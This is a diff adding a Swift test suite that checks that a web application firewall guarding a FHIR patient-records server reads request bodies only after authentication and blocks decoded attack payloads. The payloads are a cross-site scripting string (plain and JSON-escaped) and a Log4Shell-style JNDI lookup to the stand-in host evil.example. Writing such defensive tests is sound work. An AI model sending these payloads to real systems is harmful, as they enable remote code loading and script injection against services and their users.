@@ -25,6 +25,29 @@ import TestSupport
     }
 }
 
+@Suite struct WAFBodyHTTPTests {
+    @Test(arguments: TestDatabaseKind.allCases)
+    func bodiesAreReadOnlyAfterAuthenticationAndInspectedDecoded(_ kind: TestDatabaseKind) async throws {
+        try await TestServer.run(kind) { s in
+            let attack = j(#"{"resourceType":"Patient","name":[{"family":"<script>alert(1)</script>"}]}"#)
+            // without a token the body is never read: authentication answers, not the WAF
+            #expect(try await s.request(.post, "/fhir/Patient", json: attack, as: .anonymous).code == 401)
+            // with one, the WAF reads it as the handler does, JSON escapes decoded
+            let escaped = #"{"resourceType":"Patient","name":[{"family":"\u003cscript\u003ealert(1)\u003c/script\u003e"}]}"#
+            let blocked = try await s.request(.post, "/fhir/Patient", body: escaped, headers: [.contentType: "application/fhir+json"])
+            #expect(blocked.code == 403)
+            #expect(blocked.text.hasPrefix(#"{"error":"blocked""#))
+            let jndi = #"{"resourceType":"Patient","name":[{"family":"\u0024{jndi:ldap://evil.example/a}"}]}"#
+            #expect(try await s.request(.post, "/fhir/Patient", body: jndi, headers: [.contentType: "application/fhir+json"]).code == 403)
+            #expect(try await s.get("/fhir/Patient?_total=accurate").total == 0)  // nothing was stored
+            // a large body (over 1 MiB) within the route's limit goes through the large-body gate
+            let data = Data((0..<(3 << 20)).map { UInt8(truncatingIfNeeded: $0 &* 2654435761 >> 7) }).base64EncodedString()
+            let binary = j(#"{"resourceType":"Binary","contentType":"application/octet-stream","data":"\#(data)"}"#)
+            #expect(try await s.post("/fhir/Binary", binary).code == 201)
+        }
+    }
+}
+
 /// Every resource of the Synthea sample passes the WAF as the body of its transaction.
 @Suite struct WAFSyntheaTests {
     @Test func theSyntheaSampleHasNoFalsePositives() throws {
